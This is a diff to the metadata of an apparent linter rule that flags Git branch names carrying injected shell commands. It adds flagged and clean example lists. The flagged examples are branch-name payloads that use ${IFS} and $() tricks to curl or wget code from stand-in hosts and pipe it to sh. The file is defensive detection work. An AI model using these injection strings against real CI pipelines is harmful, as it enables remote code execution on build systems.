@@ -10,6 +10,10 @@ export const meta: RuleMeta = {
   description: 'A URL scheme, or a host name next to shell syntax (hackmoltrepeat.com, raw.githubusercontent.com/…), is where an injected command downloads its payload from. Host names alone are ordinary in bot branches (dependabot/go_modules/golang.org/x/net-0.17.0, renovate/github.com-pkg-errors-0.x) and are not reported.',
   remediation: 'rename the branch; block the host if the name came from an untrusted pull request',
   example: {bad: `x;curl\${IFS}hackmoltrepeat.com/molt|sh`, good: 'dependabot/go_modules/golang.org/x/net-0.17.0'},
+  examples: {
+    flagged: [`x;curl\${IFS}hackmoltrepeat.com/molt|sh`, `main$(wget\${IFS}-qO-\${IFS}https://evil.example/x)`],
+    clean: ['dependabot/go_modules/golang.org/x/net-0.17.0', 'renovate/github.com-actions-checkout-4.x'],
+  },
 }
 
 export const rule: NameRule = {
